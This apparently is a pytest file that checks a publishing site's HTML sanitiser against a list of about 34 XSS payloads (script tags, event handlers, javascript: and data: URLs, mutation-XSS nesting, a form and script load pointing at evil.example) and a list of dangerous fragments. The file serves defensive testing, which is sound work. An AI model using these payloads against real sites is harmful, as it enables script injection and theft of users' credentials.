"""Article HTML is reduced to an allow-list on the server, whatever the editor sends."""

import pytest

from articles.models import Article
from lordspress.sanitize import sanitize_html
from tests import factories

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/uploads/a.jpg" onload="alert(1)">',
    "<p onclick=alert(1)>click</p>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//evil.example/x.png">',
    '<svg onload=alert(1)><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
    '<p title="x" class="evil" id="x" data-x="1">attrs</p>',
    '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
]
DANGEROUS_FRAGMENTS = [
    "<script", "onerror", "onload", "onclick", "javascript:", "vbscript:", "data:", "<svg",
    "<iframe", "<object", "<embed", "<style", "style=", "<link", "<meta", "<form", "<input",
    "<base", "<!--", "tracker.example", "evil.example", "class=\"evil\"", "id=\"x\"",
    "target=", "srcset", "background=", "<math", "<template", "<noscript",
]  # fmt: skip


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_sanitising(payload):
    cleaned = sanitize_html(payload).lower()
    for fragment in DANGEROUS_FRAGMENTS:
        assert fragment not in cleaned, (payload, cleaned)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_a_save_or_reaches_the_page(client, payload):
    article = factories.ArticleFactory(body=f"<p>Before.</p>{payload}<p>After.</p>")
    stored = Article.objects.get(pk=article.pk).body.lower()
    for fragment in DANGEROUS_FRAGMENTS:
        assert fragment not in stored
    page = client.get(article.get_absolute_url()).content.decode().lower()
    body = page.split('class="article__body prose">', 1)[1].split("</div>", 1)[0]
    for fragment in DANGEROUS_FRAGMENTS:
        assert fragment not in body


def test_article_markup_is_kept():
    html = (
        "<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4><p><strong>b</strong> <em>i</em></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>quote</p></blockquote>"
        '<p><a href="https://www.college-of-arms.gov.uk/">arms</a> '
        '<a href="mailto:desk@lordspress.example">desk</a></p>'
        '<figure class="image"><img src="/media/uploads/2026/11/25/abc.jpg" alt="Arms" '
        'width="800" height="600"><figcaption>The arms</figcaption></figure>'
        "<table><caption>Precedence</caption><thead><tr><th>Rank</th></tr></thead>"
        "<tbody><tr><td>Duke</td></tr></tbody></table>"
    )
    cleaned = sanitize_html(html)
    for kept in [
        "<h2>", "<h3>", "<h4>", "<strong>", "<em>", "<ul>", "<ol>", "<blockquote>",
        'href="https://www.college-of-arms.gov.uk/"', 'href="mailto:desk@lordspress.example"',
        '<figure class="image">', 'src="/media/uploads/2026/11/25/abc.jpg"', 'alt="Arms"',
        "<figcaption>", "<table>", "<caption>", "<th>", "<td>",
    ]:  # fmt: skip
        assert kept in cleaned, kept
    assert 'rel="noopener noreferrer"' in cleaned


def test_headings_outside_the_outline_lose_their_tag_but_keep_their_text():
    assert sanitize_html("<h1>Title</h1><h6>Small</h6>") == "TitleSmall"


def test_ftp_and_tel_links_lose_their_address():
    cleaned = sanitize_html('<a href="tel:+44207">call</a><a href="ftp://x.example/">f</a>')
    assert "tel:" not in cleaned and "ftp:" not in cleaned
